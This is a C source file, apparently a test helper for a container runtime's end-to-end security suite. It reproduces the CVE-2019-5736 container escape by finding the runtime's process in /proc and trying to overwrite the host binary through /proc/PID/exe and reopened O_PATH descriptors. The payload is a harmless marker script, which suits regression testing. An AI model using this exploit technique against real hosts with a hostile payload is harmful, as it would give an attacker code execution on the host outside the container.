/*
 * overwrite_exe — the in-container half of the CVE-2019-5736 attack, for the
 * e2e tests (tests/e2e/security.bats). Built statically: the busybox rootfs has
 * no C library.
 *
 *   overwrite_exe LOG READY SECONDS
 *
 * Runs as the container's init. For SECONDS it scans /proc for processes whose
 * executable is foreign to the rootfs (neither this program nor /bin/busybox):
 * that is the runtime itself, caught while it runs inside the container, either
 * as its own init stage or because an exec'd "#!/proc/self/exe" script made the
 * kernel execute the runtime binary as the script's interpreter. For each one it
 * does what the published exploit does:
 *   1. open /proc/PID/exe O_WRONLY right away (fails with ETXTBSY while the
 *      binary runs, succeeds on a runtime that exposes a writable host file);
 *   2. keep an O_PATH descriptor of /proc/PID/exe and, until the deadline, retry
 *      opening /proc/self/fd/N for writing, which succeeds the moment the runtime
 *      process exits and the host binary is no longer busy.
 * On success it writes a payload over the start of the file. Every step is
 * logged to LOG so a failing test shows how far the attack got. READY is created
 * once scanning begins; after the deadline it waits to be killed.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE /* O_PATH */
#endif
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

static const char payload[] = "#!/bin/sh\necho WARD-E2E-CVE-2019-5736-PAYLOAD\n";

struct held {
	int fd;
	pid_t pid;
};

static int log_fd = -1;

__attribute__((format(printf, 1, 2))) static void
logf_(const char *fmt, ...)
{
	char buf[512];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	if (n > 0)
		(void)!write(log_fd, buf, (size_t)n < sizeof(buf) ? (size_t)n : sizeof(buf) - 1);
}

static double
now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static int
same_file(const struct stat *a, const struct stat *b)
{
	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static void
try_write(int fd, const char *how, pid_t pid)
{
	ssize_t w = pwrite(fd, payload, sizeof(payload) - 1, 0);

	if (w > 0)
		logf_("WROTE %zd bytes into the exe of pid %d via %s\n", w, (int)pid, how);
	else
		logf_("write via %s for pid %d failed: %s\n", how, (int)pid, strerror(errno));
}

int
main(int argc, char **argv)
{
	struct held held[MAX_HELD];
	size_t nheld = 0, i;
	pid_t seen[MAX_HELD];
	size_t nseen = 0;
	struct stat self, bb;
	double deadline;
	int fd;

	if (argc != 4)
		return 2;
	log_fd = open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (log_fd < 0)
		return 1;
	if (stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &bb) < 0) {
		logf_("stat self/busybox: %s\n", strerror(errno));
		return 1;
	}
	deadline = now() + atof(argv[3]);
	fd = open(argv[2], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0)
		(void)close(fd);
	logf_("scanning as pid %d\n", (int)getpid());

	while (now() < deadline) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d != NULL && (e = readdir(d)) != NULL) {
			char path[64], target[256];
			struct stat st;
			pid_t pid;
			ssize_t n;
			int known = 0;

			if (e->d_name[0] < '1' || e->d_name[0] > '9')
				continue;
			pid = (pid_t)atoi(e->d_name);
			if (pid == getpid())
				continue;
			for (i = 0; i < nseen; i++)
				known |= seen[i] == pid;
			if (known)
				continue;
			snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
			if (stat(path, &st) < 0 || same_file(&st, &self) || same_file(&st, &bb))
				continue;
			if (nseen < MAX_HELD)
				seen[nseen++] = pid;
			n = readlink(path, target, sizeof(target) - 1);
			target[n > 0 ? n : 0] = '\0';
			logf_("foreign exe in pid %d: %s\n", (int)pid, target);

			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0) {
				try_write(fd, "open(/proc/PID/exe, O_WRONLY)", pid);
				(void)close(fd);
			} else {
				logf_("open %s O_WRONLY: %s\n", path, strerror(errno));
			}
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd >= 0 && nheld < MAX_HELD) {
				held[nheld].fd = fd;
				held[nheld].pid = pid;
				nheld++;
			} else if (fd >= 0) {
				(void)close(fd);
			}
		}
		if (d != NULL)
			closedir(d);

		for (i = 0; i < nheld;) {
			char path[64];

			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i].fd);
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0) {
				try_write(fd, "reopen of an O_PATH fd after exit", held[i].pid);
				(void)close(fd);
			} else if (errno == ETXTBSY) {
				i++;
				continue;
			} else {
				logf_("reopen for pid %d: %s\n", (int)held[i].pid, strerror(errno));
			}
			(void)close(held[i].fd);
			held[i] = held[--nheld];
		}
		sched_yield();
	}
	logf_("done: %zu foreign executables seen, %zu still busy\n", nseen, nheld);
	for (;;)
		pause();
}
